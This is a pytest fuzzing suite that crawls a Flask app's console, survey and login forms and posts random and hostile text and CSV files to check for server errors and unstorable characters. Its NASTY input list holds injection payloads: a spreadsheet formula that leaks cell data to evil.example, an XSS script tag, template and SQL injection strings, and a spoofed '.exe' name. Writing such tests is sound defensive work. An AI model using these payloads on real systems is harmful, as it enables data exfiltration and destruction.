"""Fuzzing every form: random text in every field, never a 500, nothing stored that cannot show.

Hypothesis fills each field of each form the pages offer (found by following the links a
signed-in member of staff, a respondent and a stranger can reach, so a new form is fuzzed the
day it appears) with its own value or with text a careless or hostile user might send: any
Unicode, ASCII control characters, NULs, formula-like and markup-like text, and long strings.
The CSV imports get random files. On both databases, every response is below 500; afterwards
every page still renders, and no text column of any table holds a control character (the one
kind of text a page, a PDF or a workbook cannot show, and PostgreSQL cannot store).

The examples are fixed by default (`derandomize`), so CI is repeatable; set
`TEMPCHECK_FUZZ_RANDOM=1` and `TEMPCHECK_FUZZ_EXAMPLES=200` to explore further.
"""

from __future__ import annotations

import io
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import String, Text, select
from sqlalchemy.orm import Session, sessionmaker

from collector.controls import CONTROL
from collector.models import Base
from tests.forms.conftest import Browser
from tests.forms.people import World, as_persona

pytestmark = pytest.mark.slow

EXAMPLES = int(os.environ.get("TEMPCHECK_FUZZ_EXAMPLES", "5"))
FUZZ = settings(
    max_examples=EXAMPLES,
    derandomize=not os.environ.get("TEMPCHECK_FUZZ_RANDOM"),
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Text people should not send but will: control characters, NULs, a formula, markup, a
# right-to-left override, emoji, combining marks, and the empty string.
NASTY = st.sampled_from(
    [
        "\x00",
        "\x0b",
        "\x1b[31m",
        "\x7f",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1-1",
        "@SUM(A1)",
        "<script>alert(1)</script>",
        "{{ 7 * 7 }}",
        "'; DROP TABLE organisations; --",
        "\u202egnp.exe",
        "😀👩🏽‍💻",
        "e\u0301",
        "\u2028",
        "",
        " ",
    ]
)
TEXT = st.one_of(
    st.text(max_size=30),
    st.text(st.characters(max_codepoint=0x7F), max_size=30),
    st.lists(NASTY, min_size=1, max_size=3).map("".join),
    st.tuples(st.text(max_size=8), NASTY, st.text(max_size=8)).map("".join),
    st.tuples(st.text(min_size=1, max_size=4), st.integers(200, 3_000)).map(
        lambda pair: pair[0] * pair[1]
    ),
)
CSV_FILE = st.one_of(
    st.binary(max_size=200),
    st.lists(st.lists(TEXT, min_size=1, max_size=6).map(",".join), max_size=4).map(
        lambda rows: "\n".join(rows).encode("utf-8", "surrogatepass")
    ),
)

# Forms not fuzzed: signing out ends the session the rest needs; closing a round and publishing
# its reports take seconds each and are tested with their own bad inputs.
NOT_FUZZED = re.compile(r"^/logout$|/close$|/publish$")
# Links not followed: files, JSON and the respondent's way out of a round.
NOT_FOLLOWED = re.compile(r"\.(csv|json|pdf|xlsx|png|svg)$|/opt-out$|/unsubscribe$")


@dataclass
class Field:
    """One field of a form: its name, kind and the value the page gives it."""

    name: str
    kind: str
    value: str = ""


@dataclass
class Form:
    """A form on a page: where it posts, its fields, and the page it came from."""

    page: str
    action: str
    multipart: bool
    fields: list[Field] = field(default_factory=list)

    @property
    def key(self) -> tuple[str, tuple[str, ...]]:
        """Tell forms apart by where they post (ids as #) and the names of their fields."""
        return re.sub(r"/\d+", "/#", self.action), tuple(sorted(f.name for f in self.fields))


class _Forms(HTMLParser):
    """Collect a page's POST forms and its links."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.page = page
        self.forms: list[Form] = []
        self.links: list[str] = []
        self._form: Form | None = None
        self._select: Field | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "a" and a.get("href", "").startswith("/"):
            self.links.append(a["href"].split("#")[0])
        elif tag == "form" and a.get("method", "get").lower() == "post":
            action = a.get("action") or self.page
            multipart = a.get("enctype") == "multipart/form-data"
            self._form = Form(self.page, action.split("#")[0], multipart)
            self.forms.append(self._form)
        elif tag == "option" and self._select is not None:
            # The selected option, or else the first that is not a "choose one" placeholder.
            if "selected" in a or not self._select.value:
                self._select.value = a.get("value", "")
        elif self._form is None or not a.get("name"):
            return
        elif tag == "input":
            kind = a.get("type", "text")
            if kind in ("checkbox", "radio") and "checked" not in a:
                kind += "-unchecked"
            if kind not in ("submit", "button", "image"):
                self._form.fields.append(Field(a["name"], kind, a.get("value", "")))
        elif tag == "textarea":
            self._form.fields.append(Field(a["name"], "textarea"))
        elif tag == "select":
            self._select = Field(a["name"], "select")
            self._form.fields.append(self._select)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def crawl(client: FlaskClient, seeds: list[str], *, within: str, limit: int = 60) -> list[Form]:
    """Follow links from `seeds` under `within`; give each distinct POST form found once."""
    queue, seen = list(seeds), set(seeds)
    forms: dict[tuple[str, tuple[str, ...]], Form] = {}
    while queue and len(seen) <= limit:
        response = client.get(queue.pop(0), follow_redirects=True)
        assert response.request is not None
        page = response.request.path
        assert response.status_code < 500, f"GET {page}: {response.status_code}"
        if response.status_code != 200 or response.mimetype != "text/html":
            continue
        parser = _Forms(page)
        parser.feed(response.get_data(as_text=True))
        for form in parser.forms:
            if not NOT_FUZZED.search(form.action):
                forms.setdefault(form.key, form)
        for link in parser.links:
            if link.startswith(within) and link not in seen and not NOT_FOLLOWED.search(link):
                seen.add(link)
                queue.append(link)
    return list(forms.values())


def defaults(fields: list[Field]) -> dict[str, str]:
    """Give what a browser sends for the form as the page gives it, a choice made in each
    group of radios or select that has none yet (so that the form is otherwise valid)."""
    values: dict[str, str] = {}
    for f in fields:
        if f.kind in ("checkbox", "radio") or (
            f.kind == "radio-unchecked" and f.name not in values
        ):
            values[f.name] = f.value
        elif f.kind not in ("file", "checkbox-unchecked", "radio-unchecked"):
            values.setdefault(f.name, f.value)
    return values


def fuzz(client: FlaskClient, form: Form, *, before: Callable[[], None] | None = None) -> None:
    """Post random values to `form` a few times; no answer may be a server error.

    `before`: run before each post (to go back to a question the last example answered)."""
    names = [f for f in form.fields if f.name != "csrf_token"]

    page = client.get(form.page)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.get_data(as_text=True))

    @FUZZ
    @given(
        # One or two fields get hostile text and the rest keep what the page gave them, so the
        # form is otherwise valid and what it takes gets as far as the database.
        hostile=st.dictionaries(
            st.sampled_from([f.name for f in names if f.kind != "file"] or ["unexpected"]),
            TEXT,
            min_size=1,
            max_size=2,
        ),
        files=st.fixed_dictionaries({f.name: CSV_FILE for f in names if f.kind == "file"}),
    )
    def post(hostile: dict[str, str], files: dict[str, bytes]) -> None:
        if before is not None:
            before()
        values = defaults(names) | hostile
        data: dict[str, Any] = {"csrf_token": token.group(1) if token else "", **values}
        for name, content in files.items():
            data[name] = (io.BytesIO(content), "groups.csv")
        response = client.post(
            form.action,
            data=data,
            content_type="multipart/form-data" if form.multipart else None,
            follow_redirects=True,
        )
        assert response.status_code < 500, (
            f"POST {form.action} gave {response.status_code}: {response.get_data(as_text=True)}"
        )

    post()


def stored_texts(sessions: sessionmaker[Session]) -> Iterator[tuple[str, str]]:
    """Give every text stored in a text column of any table, with where it is."""
    with sessions() as session:
        for table in Base.metadata.sorted_tables:
            columns = [c for c in table.columns if isinstance(c.type, String | Text)]
            if not columns:
                continue
            for row in session.execute(select(*columns)):
                for column, value in zip(columns, row, strict=True):
                    if isinstance(value, str):
                        yield f"{table.name}.{column.name}", value


def assert_all_renders(
    client: FlaskClient, pages: list[str], sessions: sessionmaker[Session]
) -> None:
    """Every page still renders, and nothing stored holds text a page or a file cannot show."""
    for page in pages:
        response = client.get(page, follow_redirects=True)
        assert response.status_code < 500, f"GET {page} after fuzzing: {response.status_code}"
    unshowable = [
        (where, text[:60]) for where, text in stored_texts(sessions) if CONTROL.search(text)
    ]
    assert not unshowable, unshowable


@pytest.fixture
def world(app: Flask, restore: Callable[..., World]) -> World:
    """The console's personas and rows, and an open round of provider A with answers (so its
    report has narrative boxes): built once per worker, copied per test."""
    return restore("fuzzing-world", _build_world)


def _build_world(sessions: sessionmaker[Session]) -> World:
    from collector import db, models
    from tests.analysis.test_publish import answered_round
    from tests.forms.people import build_world

    world = build_world(sessions)
    with db.transaction(sessions) as session:
        provider = session.get(models.Provider, world.a.id)
        answered_round(session, groups=5, answered=5, provider=provider, close=False)
    return world


def test_every_console_form_takes_any_text_without_a_server_error(
    app: Flask, world: World, session_factory: sessionmaker[Session]
) -> None:
    staff = as_persona(Browser(app.test_client()), world, "staff_a")
    base = f"/console/{world.a.slug}"
    forms = crawl(staff.client, [f"{base}/", "/console/telegram"], within=base)
    # Every kind of console form is reached: a sanity check that the crawl still finds them.
    actions = {form.key[0] for form in forms}
    for expected in (
        f"{base}/organisations/new",
        f"{base}/organisations/#",
        f"{base}/organisations/import",
        f"{base}/rounds/new",
        f"{base}/reports/#/narrative",
        f"{base}/volunteers/import",
        f"{base}/placements/new",
        f"{base}/enquiries/new",
    ):
        assert expected in actions, f"the crawl found no form posting to {expected}: {actions}"
    for form in forms:
        fuzz(staff.client, form)
    assert_all_renders(staff.client, sorted({form.page for form in forms}), session_factory)


def test_every_import_takes_any_file_without_a_server_error(
    app: Flask, world: World, session_factory: sessionmaker[Session]
) -> None:
    staff = as_persona(Browser(app.test_client()), world, "staff_a")
    base = f"/console/{world.a.slug}"
    kinds = ("organisations", "volunteers", "placements", "enquiries")
    for kind in kinds:
        page = f"{base}/{kind}/import"
        upload = Form(page, page, True, [Field("file", "file")])
        confirm = Form(page, f"{page}/confirm", False, [Field("csv", "textarea")])
        fuzz(staff.client, upload)
        fuzz(staff.client, confirm)
    assert_all_renders(staff.client, [f"{base}/{kind}" for kind in kinds], session_factory)


def page_forms(client: FlaskClient, url: str) -> tuple[str, list[Form]]:
    """Open `url` (following redirects); give the page's path and its POST forms."""
    response = client.get(url, follow_redirects=True)
    assert response.status_code < 500, f"GET {url}: {response.status_code}"
    assert response.request is not None
    parser = _Forms(response.request.path)
    parser.feed(response.get_data(as_text=True))
    return response.request.path, parser.forms


def back_to(client: FlaskClient, start: str, path: str) -> None:
    """Go back, as a respondent does with the Back button, until `path` is the question shown."""
    for _ in range(3):
        now, forms = page_forms(client, f"{start}/q")
        if now == path:
            return
        back = next(f for f in forms if f.action.endswith("/back"))
        client.post(back.action, data=defaults(back.fields))
    raise AssertionError(f"Back did not lead to {path}")


def answer_every_question_with_fuzz(client: FlaskClient, start: str) -> int:
    """Fuzz each question of the survey at `start` in turn, going on with a plain answer when
    no hostile one was taken; give how many question pages were fuzzed."""
    fuzzed = 0
    for _ in range(40):
        path, forms = page_forms(client, f"{start}/q")
        if "/q/" not in path:
            return fuzzed
        question = next(f for f in forms if f.action == path)
        fuzz(client, question, before=lambda path=path: back_to(client, start, path))
        fuzzed += 1
        if page_forms(client, f"{start}/q")[0] != path:
            continue
        token = next((f.value for f in question.fields if f.name == "csrf_token"), "")
        ticked = {f.name: f.value for f in reversed(question.fields) if "box" in f.kind}
        for plain in (defaults(question.fields), ticked, {"answer": "1"}, {"answer": "Plain"}):
            client.post(path, data={**plain, "csrf_token": token})
            if page_forms(client, f"{start}/q")[0] != path:
                break
        else:
            raise AssertionError(f"no plain answer gets past {path}")
    raise AssertionError(f"the survey at {start} did not end")


def test_every_respondent_form_takes_any_text_without_a_server_error(
    app: Flask, world: World, session_factory: sessionmaker[Session]
) -> None:
    from collector import models

    with session_factory() as session:
        tokens = session.scalars(
            select(models.Invitation.token).where(models.Invitation.round_id == world.a.open_round)
        ).all()
        open_round = session.get(models.Round, world.a.open_round)
        assert open_round is not None
        open_round.open_link = True
        slug = open_round.slug
        session.commit()
    assert len(tokens) >= 2
    respondent, stranger = app.test_client(), app.test_client()
    for client, start in (
        (respondent, f"/r/{tokens[0]}"),
        (stranger, f"/s/{slug}"),
        (respondent, f"/r/{tokens[1]}/opt-out"),
        (stranger, "/login"),
    ):
        path, forms = page_forms(client, start)
        assert forms, f"no form on {start}"
        for form in forms:
            fuzz(client, form)
        if start.startswith(("/r/", "/s/")) and "opt-out" not in start:
            # Every question of the every-type survey: text, numbers, choices, scales.
            assert answer_every_question_with_fuzz(client, start) >= 5
            path, forms = page_forms(client, f"{start}/check")
            for form in forms:
                fuzz(client, form)
    pages = [f"/r/{tokens[0]}/done", f"/s/{slug}", f"/console/{world.a.slug}/rounds"]
    staff = as_persona(Browser(app.test_client()), world, "staff_a")
    assert_all_renders(staff.client, pages, session_factory)
